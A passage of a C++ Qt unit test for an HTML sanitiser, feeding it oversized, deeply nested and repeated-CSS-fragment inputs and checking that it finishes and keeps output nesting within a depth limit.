    row("select", "<select><option>");
    row("nested lists", "<ul><li>");
    QTest::newRow("many attributes") << QByteArray("<p " + QByteArray("a=1 b=2 ").repeated(megabyte / 8) + ">");
    QTest::newRow("distinct fonts, then paragraphs") << []() -> QByteArray {
        QByteArray html = "<p>";
        for (int i = 0; i < 2000; ++i)
            html += "<font size=" + QByteArray::number(i) + ">";
        return html + QByteArray("</p><p>x").repeated(50000);
    }();
    QTest::newRow("one long word") << QByteArray(megabyte, 'x');
    for (const char *css : {"{", "}", "(", "url(", "url('", "@media(", "@a", "a,", ".a ", "a{b:c;", "/*", "\\", "'",
                            "image(", "p{color:rgb(", "<!--", "!important"}) {
        QTest::newRow(QByteArray("css " + QByteArray(css)).constData()) << QByteArray(
            "<style>" + QByteArray(css).repeated(static_cast<int>(megabyte / qstrlen(css))) + "</style><p>x");
        QTest::newRow(QByteArray("attribute " + QByteArray(css)).constData())
            << QByteArray("<p style=\"" + QByteArray(css).repeated(static_cast<int>(megabyte / qstrlen(css))) + "\">x");
    }
}

/// Each must end within the parser's budget and must not exhaust the stack; whatever is left must be safe and shallow.
void TestSanitiser::hostileShapes()
{
    QFETCH(QByteArray, html);
    const SanitisedHtml result = sanitiseHtml(html);
    QVERIFY(result.failed == (result.bodyAttributes.isEmpty()));
    int depth = 0;
    int deepest = 0;
    for (qsizetype at = result.body.indexOf('<'); at >= 0; at = result.body.indexOf('<', at + 1)) {
        depth += result.body[at + 1] == '/' ? -1 : 1;
        deepest = std::max(deepest, depth);
        if (QByteArrayView(result.body).sliced(at).startsWith("<br>"))
            --depth;
    }
    QVERIFY(deepest <= SanitiserLimits::depth);
}

QTEST_APPLESS_MAIN(TestSanitiser)
#include "test_sanitiser.moc"
